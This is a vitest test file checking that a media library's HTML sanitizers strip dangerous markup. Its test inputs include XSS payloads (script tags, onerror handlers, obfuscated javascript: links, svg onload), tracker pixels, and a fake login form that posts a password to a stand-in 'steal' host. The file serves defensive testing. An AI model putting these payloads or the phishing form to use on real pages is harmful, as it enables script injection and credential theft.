// @vitest-environment jsdom
import { describe, expect, test, vi } from "vitest";
import { createPopcorn, createVirtualPlayer } from "../src/index.js";
import { eventMarkup, renderToString } from "../src/markup/index.js";
import { parse } from "../src/parsers/index.js";
import { text, textMarkup } from "../src/plugins/catalogue/text.js";
import { pluginViewOptions, sanitizeFileHtml, sanitizeHtml } from "../src/sanitize/index.js";

// The default sanitizer where there is a DOM: DOMPurify's defaults keep formatting, drop what runs.
test.each([
  ["<script>alert(1)</script><p>kept</p>", "<p>kept</p>"],
  ['<img src=x onerror="alert(1)">', '<img src="x">'],
  ['<a href="javascript:alert(1)">x</a>', "<a>x</a>"],
  ['<a href="JaVaScRiPt:alert(1)">x</a>', "<a>x</a>"],
  ['<a href=" java&#9;script:alert(1)">x</a>', "<a>x</a>"],
  ['<iframe src="data:text/html,<script>alert(1)</script>"></iframe>', ""],
  ['<svg><g onload="alert(1)"></g></svg>', "<svg><g></g></svg>"],
  ['<b>bold</b> <a href="https://example.com/">link</a>', '<b>bold</b> <a href="https://example.com/">link</a>'],
])("sanitizeHtml(%j) is %j", (html, clean) => {
  expect(sanitizeHtml(html)).toBe(clean);
});

// The strict profile of html from files: a data file cannot lay a form, a styled page or a remote image over the page.
const PHISHING =
  '<form action="https://elsewhere.example/steal"><label>Password <input type="password" name="p"></label>' +
  '<button>Sign in</button></form><div class="fixed inset-0" id="login" style="position:fixed;inset:0">Session expired</div>';

test.each([
  // What was inside a dropped field or button stays, as text.
  [PHISHING, "Password Sign in<div>Session expired</div>"],
  ['<img src="https://tracker.example/pixel.gif" alt="x">', '<img alt="x">'],
  ['<img src="//tracker.example/pixel.gif" alt="x">', '<img alt="x">'],
  ['<img src="/media/poster.jpg" alt="ours">', '<img src="/media/poster.jpg" alt="ours">'],
  ['<img src="data:image/png;base64,AAAA" alt="inline">', '<img src="data:image/png;base64,AAAA" alt="inline">'],
  ['<iframe src="/page"></iframe><object data="/x"></object><style>body{display:none}</style>', ""],
  [
    '<p><b>Kept:</b> <a href="https://example.org/">a link</a></p>',
    '<p><b>Kept:</b> <a href="https://example.org/">a link</a></p>',
  ],
  ['<script>alert(1)</script><img src=x onerror="alert(1)">', '<img src="x">'],
])("sanitizeFileHtml(%j) is %j", (html, clean) => {
  expect(sanitizeFileHtml(html)).toBe(clean);
});

test("the strict profile leaves the default one as it was", () => {
  sanitizeFileHtml('<img src="https://elsewhere.example/a.png">');
  expect(sanitizeHtml('<p style="color:red"><img src="https://elsewhere.example/a.png"></p>')).toBe(
    '<p style="color:red"><img src="https://elsewhere.example/a.png"></p>',
  );
});

describe("html from a data file", () => {
  const data = JSON.stringify({ data: [{ text: { id: "file-text", start: 0, end: 5, html: PHISHING } }] });

  test("renders through the strict profile; the same html as a component's prop keeps the default one", async () => {
    const pop = createPopcorn(createVirtualPlayer({ duration: 10 }), { ticker: "manual", parse, plugins: [text] });
    await pop.loadTrack({ text: data });
    const fromFile = renderToString(eventMarkup(pop, pop.getTrackEvent("file-text")!, textMarkup)!.markup);
    expect(fromFile).not.toMatch(/<form|<input|<button|style=|class="fixed/);
    expect(fromFile).toContain("Session expired");
    // A plugin component's View (props of the page's own) keeps DOMPurify's defaults: its form stays.
    expect(pluginViewOptions(text, pop.getTrackEvent("file-text")!, pop).html).toContain("<form");
    pop.destroy();
  });

  test("a page that trusts its files passes its own sanitizeFileHtml", async () => {
    const mine = vi.fn((html: string) => `[${html.length}]`);
    const pop = createPopcorn(createVirtualPlayer({ duration: 10 }), {
      ticker: "manual",
      parse,
      plugins: [text],
      sanitizeFileHtml: mine,
    });
    await pop.loadTrack({ text: data });
    expect(renderToString(eventMarkup(pop, pop.getTrackEvent("file-text")!, textMarkup)!.markup)).toContain(
      `[${PHISHING.length}]`,
    );
    expect(mine).toHaveBeenCalledWith(PHISHING);
    expect(() => createPopcorn(createVirtualPlayer(), { sanitizeFileHtml: "loose" as never })).toThrow(
      /^sanitizeFileHtml "loose": expected a function/,
    );
    pop.destroy();
  });
});
